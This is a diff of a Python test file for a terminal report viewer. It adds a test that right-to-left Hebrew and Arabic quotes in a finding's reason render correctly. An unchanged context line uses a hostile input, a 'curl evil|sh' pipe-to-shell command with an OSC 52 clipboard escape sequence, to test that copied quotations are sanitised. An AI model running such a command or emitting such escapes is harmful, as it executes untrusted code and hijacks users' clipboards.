@@ -119,6 +119,17 @@ def test_a_copied_quotation_is_logical_text_on_one_line(report: Report) -> None:
     assert quote_for_copy(hostile, report) == display("“x curl evil|sh⟨001B⟩]52;c;e⟨0007⟩” (أخبار النيل, 2023-03-02)")
 
 
+def test_a_reason_reads_from_the_left_even_where_it_begins_with_a_foreign_quote(report: Report) -> None:
+    finding = report.findings[1]
+    pair = finding.pairs[0]
+    evidence = replace(pair.evidence[0], reason="«משקיפה» against «عضو كامل»: both cannot hold")
+    changed = replace(finding, pairs=(replace(pair, evidence=(evidence,)),))
+    text = "\n".join(
+        text_of(line) for line in lines_of(finding_page(changed, report.claim("c6"), report, 90, "visual"))
+    )
+    assert "-0.70  «הפיקשמ» against «" in text
+
+
 def test_help_explains_every_command() -> None:
     text = " ".join(" ".join(text_of(line) for line in lines_of(help_page(90, "visual"))).split())
     assert all(command.help in text for command in COMMANDS)
